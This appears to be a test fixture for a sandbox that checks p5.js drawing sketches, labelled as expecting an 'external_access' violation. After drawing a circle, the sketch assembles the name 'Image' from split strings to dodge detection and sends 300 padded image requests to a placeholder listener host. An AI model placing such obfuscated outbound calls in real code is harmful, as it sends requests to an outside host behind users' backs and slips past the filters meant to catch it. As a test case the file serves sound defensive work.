// tries: to break rules in more ways than are kept
// expect: external_access
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  for (let i = 0; i < 300; i++) {
    const image = new window[hidden("Im", "age")]();
    image.src = `http://@LISTENER@/${i}/${"x".repeat(3000)}`;
  }
}
